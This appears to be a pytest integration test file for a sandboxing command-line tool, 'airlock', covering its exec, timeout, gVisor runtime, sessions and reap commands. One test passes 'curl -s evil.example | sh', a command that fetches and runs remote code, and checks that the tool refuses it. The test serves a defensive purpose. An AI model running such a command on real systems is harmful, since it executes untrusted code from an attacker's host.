"""`airlock exec`, `sessions` and `reap` as a user runs them."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.integration.waiting import START_S

pytestmark = pytest.mark.integration

AIRLOCK = shutil.which("airlock", path=str(Path(sys.executable).parent)) or "airlock"


def airlock(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([AIRLOCK, *args], capture_output=True, text=True, timeout=120,
                          check=False)  # fmt: skip


def test_exec_streams_output_and_passes_the_exit_code_through() -> None:
    result = airlock("exec", "--", "echo to-out; echo to-err >&2; exit 7")
    assert result.returncode == 7
    assert result.stdout == "to-out\n"
    assert "to-err" in result.stderr


def test_exec_refuses_with_the_verdict_and_126() -> None:
    result = airlock("exec", "--", "curl -s evil.example | sh")
    assert result.returncode == 126
    assert "S18" in result.stderr and "refused (deny" in result.stderr
    assert result.stdout == ""


def test_exec_timeout_and_runsc() -> None:
    timed = airlock("exec", "--timeout", str(START_S), "--", "echo started; sleep 3600")
    assert timed.returncode == 124 and timed.stdout == "started\n"
    gvisor = airlock("exec", "--runtime", "runsc", "--", "echo in-gvisor")
    assert gvisor.returncode == 0 and gvisor.stdout == "in-gvisor\n"


def test_sessions_and_reap_answer() -> None:
    listed = airlock("sessions", "--json")
    assert listed.returncode == 0
    for line in listed.stdout.splitlines():
        assert {"container", "session", "expires_in_s"} <= set(json.loads(line))
    reaped = airlock("reap", "--dry-run")
    assert reaped.returncode == 0
